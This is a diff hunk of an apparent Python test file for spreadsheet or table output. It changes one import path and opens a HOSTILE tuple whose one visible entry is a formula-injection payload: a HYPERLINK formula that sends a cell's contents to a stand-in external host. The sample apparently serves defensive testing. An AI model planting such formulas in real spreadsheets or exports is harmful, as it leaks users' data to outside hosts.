@@ -10,7 +10,7 @@ import polars as pl
 import pytest
 
 from builder.cells import plain
-from scorers.files import TableFormat, written
+from scorers.scoring.files import TableFormat, written
 
 HOSTILE = (
     '=HYPERLINK("http://x.example?"&A1)',
